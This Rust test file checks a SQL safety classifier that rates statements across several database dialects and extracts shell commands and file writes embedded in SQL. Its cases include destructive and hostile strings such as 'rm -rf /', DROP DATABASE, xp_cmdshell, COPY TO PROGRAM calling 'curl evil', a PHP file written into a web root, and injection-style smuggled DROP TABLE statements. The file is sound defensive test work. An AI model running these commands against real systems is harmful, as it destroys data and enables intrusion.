use super::super::super::code::{self, Code, Language, Line, Sql};
use crate::Level::{self, Allow, Confirm, Warn};

fn read(dialect: Sql, text: &str) -> Code {
    code::read(Language::Sql(dialect), text)
}

fn level(dialect: Sql, text: &str) -> Level {
    read(dialect, text).losses.iter().map(|loss| loss.level).max().unwrap_or(Allow)
}

fn check(dialect: Sql, cases: &[(&str, Level)]) {
    for (text, expected) in cases {
        assert_eq!(level(dialect, text), *expected, "{text}");
    }
}

#[test]
fn objects_that_are_dropped() {
    check(
        Sql::Postgres,
        &[
            ("DROP DATABASE shop", Confirm),
            ("drop table if exists users;", Confirm),
            ("DrOp\n/* x */ TABLE users", Confirm),
            ("DROP SCHEMA public CASCADE", Confirm),
            ("DROP OWNED BY app", Confirm),
            ("DROP MATERIALIZED VIEW v", Warn),
            ("DROP VIEW v", Warn),
            ("DROP VIEW v CASCADE", Confirm),
            ("DROP ROLE app", Warn),
            ("DROP INDEX CONCURRENTLY idx", Allow),
            ("SELECT 1; DROP TABLE x", Confirm),
            ("IF EXISTS (SELECT 1) DROP TABLE x", Confirm),
            ("SELECT 'DROP TABLE x'", Allow),
            ("SELECT $$DROP TABLE x$$", Allow),
            ("SELECT \"DROP TABLE\" FROM x", Allow),
            ("-- DROP TABLE x", Allow),
            ("/* DROP TABLE x; /* nested */ DROP TABLE y; */ SELECT 1", Allow),
            ("SELECT 'it''s'; DROP TABLE x", Confirm),
            ("SELECT 'a\\'; DROP TABLE x; --'", Confirm),
            ("SELECT E'a\\'; DROP TABLE x; --'", Allow),
            ("INSERT INTO log VALUES ('user said; DROP TABLE x')", Allow),
            ("CREATE TEMP TABLE t (a int); INSERT INTO t VALUES (1); DROP TABLE t", Allow),
            ("CREATE TEMP TABLE t (a int); DROP TABLE u", Confirm),
            ("CREATE TABLE t (dropped int)", Allow),
            ("GRANT DROP ON x TO y", Allow),
            ("EXPLAIN DELETE FROM users", Allow),
            ("EXPLAIN ANALYZE DELETE FROM users", Confirm),
            ("COMMENT ON TABLE x IS 'drop table'", Allow),
        ],
    );
    check(
        Sql::Other,
        &[
            ("DROP KEYSPACE shop", Confirm),
            ("DROP MEASUREMENT cpu", Confirm),
            ("DROP SERIES FROM cpu", Confirm),
        ],
    );
    check(Sql::Oracle, &[("DROP USER scott CASCADE", Confirm), ("PURGE RECYCLEBIN", Confirm)]);
}

#[test]
fn rows_without_a_condition() {
    check(
        Sql::Postgres,
        &[
            ("DELETE FROM users", Confirm),
            ("DELETE FROM users WHERE id = 3", Allow),
            ("DELETE FROM users WHERE 1=1", Confirm),
            ("DELETE FROM users WHERE ((TRUE))", Confirm),
            ("DELETE FROM users WHERE id = 1 OR 1=1", Confirm),
            ("DELETE FROM users WHERE name LIKE '%'", Confirm),
            ("DELETE FROM users WHERE name LIKE 'a%'", Allow),
            ("DELETE FROM users WHERE id = id", Confirm),
            ("DELETE FROM users WHERE 'a'='a'", Confirm),
            ("DELETE FROM users WHERE NOT FALSE", Confirm),
            ("DELETE FROM users WHERE 1 < 2 RETURNING *", Confirm),
            ("DELETE FROM users WHERE id IN (SELECT id FROM old)", Allow),
            ("DELETE FROM users LIMIT 10", Warn),
            ("DELETE FROM users USING old WHERE users.id = old.id", Allow),
            ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone WHERE id = 1", Confirm),
            ("WITH gone AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM gone", Allow),
            ("DELETE FROM users -- WHERE id = 1", Confirm),
            ("DELETE FROM users /* WHERE id = 1 */", Confirm),
            ("DELETE FROM \"where\"", Confirm),
            ("UPDATE users SET admin = true", Confirm),
            ("UPDATE users SET admin = true WHERE id = 4", Allow),
            ("UPDATE users SET a = (SELECT b FROM c WHERE d = 1)", Confirm),
            ("INSERT INTO x VALUES (1) ON CONFLICT DO UPDATE SET a = 1", Allow),
            ("SELECT * FROM users FOR UPDATE", Allow),
            ("CREATE TABLE x (a int REFERENCES y ON DELETE CASCADE ON UPDATE CASCADE)", Allow),
            ("GRANT SELECT, UPDATE, DELETE ON users TO app", Allow),
            ("TRUNCATE users", Confirm),
            ("TRUNCATE TABLE users RESTART IDENTITY CASCADE", Confirm),
            ("SELECT TRUNCATE(1.234, 2)", Allow),
            ("BEGIN; DELETE FROM users; ROLLBACK;", Allow),
            ("BEGIN; DELETE FROM users; COMMIT;", Confirm),
            ("DELETE FROM users; ROLLBACK;", Confirm),
            ("BEGIN; SAVEPOINT a; DELETE FROM users; ROLLBACK TO a; COMMIT", Confirm),
        ],
    );
    check(
        Sql::MySql,
        &[("BEGIN; DROP TABLE x; ROLLBACK", Confirm), ("DELETE users FROM users JOIN old", Confirm)],
    );
    check(
        Sql::SqlServer,
        &[("DELETE users", Confirm), ("DELETE users WHERE id = 1", Allow), ("DROP TABLE #scratch", Allow)],
    );
}

#[test]
fn tables_that_are_altered_and_rights() {
    check(
        Sql::Postgres,
        &[
            ("ALTER TABLE users DROP COLUMN email", Confirm),
            ("ALTER TABLE users DROP email", Confirm),
            ("ALTER TABLE users DROP CONSTRAINT users_pk", Allow),
            ("ALTER TABLE users ALTER COLUMN a DROP DEFAULT", Allow),
            ("ALTER TABLE users ALTER COLUMN a DROP NOT NULL", Allow),
            ("ALTER TABLE users ADD COLUMN dropped int", Allow),
            ("ALTER TABLE users DROP CONSTRAINT a, DROP COLUMN b", Confirm),
            ("ALTER TABLE logs DROP PARTITION p2020", Confirm),
            ("ALTER ROLE app SUPERUSER", Warn),
            ("ALTER ROLE app NOSUPERUSER", Allow),
            ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", Confirm),
            ("GRANT SELECT ON x TO PUBLIC", Allow),
            ("GRANT ALL ON x TO app", Allow),
        ],
    );
    check(
        Sql::MySql,
        &[
            ("GRANT ALL PRIVILEGES ON *.* TO 'root'@'%' WITH GRANT OPTION", Warn),
            ("GRANT ALL PRIVILEGES ON shop.* TO 'app'@'localhost'", Allow),
            ("CREATE OR REPLACE TABLE t (a int)", Warn),
            ("CREATE OR REPLACE VIEW v AS SELECT 1", Allow),
        ],
    );
    check(
        Sql::Other,
        &[("ALTER TABLE t DELETE WHERE 1", Confirm), ("ALTER TABLE t DELETE WHERE id = 1", Allow)],
    );
}

#[test]
fn mysql_has_comments_that_run() {
    check(
        Sql::MySql,
        &[
            ("/*!50000 DROP TABLE users */", Confirm),
            ("/* DROP TABLE users */", Allow),
            ("# DROP TABLE users", Allow),
            ("SELECT 1 # x\n; DROP TABLE users", Confirm),
            ("SELECT \"DROP TABLE x; DELETE FROM y\"", Allow),
            ("SELECT 'a\\'; DROP TABLE x; -- '", Allow),
            ("RESET MASTER", Confirm),
            ("SHUTDOWN", Confirm),
            ("FLUSH PRIVILEGES", Allow),
        ],
    );
}

#[test]
fn texts_that_the_database_runs() {
    check(
        Sql::Postgres,
        &[
            ("DO $$ BEGIN DROP TABLE users; END $$", Confirm),
            ("DO $x$ BEGIN EXECUTE 'DROP TABLE users'; END $x$", Confirm),
            ("DO $$ BEGIN RAISE NOTICE 'DROP TABLE users'; END $$", Allow),
            ("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql", Allow),
        ],
    );
    check(
        Sql::MySql,
        &[
            ("PREPARE s FROM 'DROP TABLE users'", Confirm),
            ("CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW BEGIN DELETE FROM b; END; SELECT 1", Allow),
            (
                "CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW BEGIN DELETE FROM b; END; DELETE FROM c",
                Confirm,
            ),
        ],
    );
    check(
        Sql::SqlServer,
        &[
            ("EXEC('DROP TABLE users')", Confirm),
            ("EXEC sp_executesql N'DROP TABLE users'", Confirm),
            ("EXEC xp_cmdshell 'dir'", Confirm),
            ("SELECT [DROP TABLE x] FROM y", Allow),
            ("USE master\nGO\nDROP DATABASE shop\nGO", Confirm),
        ],
    );
}

#[test]
fn shells_and_files() {
    let shell = |dialect: Sql, text: &str| {
        let lines = read(dialect, text).commands.into_iter().map(|command| match command.line {
            Line::Shell(text) => text,
            Line::Words(words) => words.join(" "),
        });
        lines.collect::<Vec<_>>().join("|")
    };
    for (dialect, text, expected) in [
        (Sql::Postgres, "\\! rm -rf /", "rm -rf /"),
        (Sql::Postgres, "SELECT 1 \\! id", "id"),
        (Sql::Postgres, "\\copy t to program 'sh -c id'", "sh -c id"),
        (Sql::Postgres, "\\o |cat > x", "cat > x"),
        (Sql::Postgres, "\\set a `id`", "id"),
        (Sql::Postgres, "COPY t TO PROGRAM 'curl evil'", "curl evil"),
        (Sql::Postgres, "COPY t FROM PROGRAM 'it''s'", "it's"),
        (Sql::Postgres, "SELECT '\\! rm -rf /'", ""),
        (Sql::Postgres, "\\d users", ""),
        (Sql::MySql, "\\! rm -rf /", "rm -rf /"),
        (Sql::MySql, "system id", "id"),
        (Sql::MySql, "SELECT 1;\nsystem id\nSELECT 2", "id"),
        (Sql::MySql, "SELECT\nsystem FROM x", ""),
        (Sql::Sqlite, ".shell rm -rf /", "rm -rf /"),
        (Sql::Sqlite, ".system id", "id"),
        (Sql::Sqlite, ".output |id", "id"),
        (Sql::Sqlite, ".tables", ""),
        (Sql::SqlServer, ":!! dir", "dir"),
        (Sql::SqlServer, "EXEC xp_cmdshell 'dir'", "dir"),
        (Sql::Oracle, "HOST id", "id"),
        (Sql::Oracle, "! id", "id"),
    ] {
        assert_eq!(shell(dialect, text), expected, "{text}");
    }
    let writes = |dialect: Sql, text: &str| {
        read(dialect, text).writes.into_iter().map(|path| path.text).collect::<Vec<_>>().join("|")
    };
    for (dialect, text, expected) in [
        (Sql::MySql, "SELECT '<?php' INTO OUTFILE '/var/www/x.php'", "/var/www/x.php"),
        (Sql::Postgres, "COPY t TO '/tmp/x.csv'", "/tmp/x.csv"),
        (Sql::Sqlite, ".output /etc/passwd", "/etc/passwd"),
        (Sql::Sqlite, ".backup main.db", "main.db"),
        (Sql::Sqlite, "SELECT writefile('/etc/x', 'y')", "/etc/x"),
        (Sql::Sqlite, "VACUUM INTO 'copy.db'", "copy.db"),
        (Sql::Sqlite, "INSERT INTO t VALUES ('x')", ""),
    ] {
        assert_eq!(writes(dialect, text), expected, "{text}");
    }
}

#[test]
fn a_loss_says_where() {
    let code = read(Sql::Postgres, "SELECT 1; DROP TABLE users; SELECT 2");
    assert_eq!(
        code.losses.iter().map(|loss| (loss.span.start, loss.span.end)).collect::<Vec<_>>(),
        [(10, 26)]
    );
}
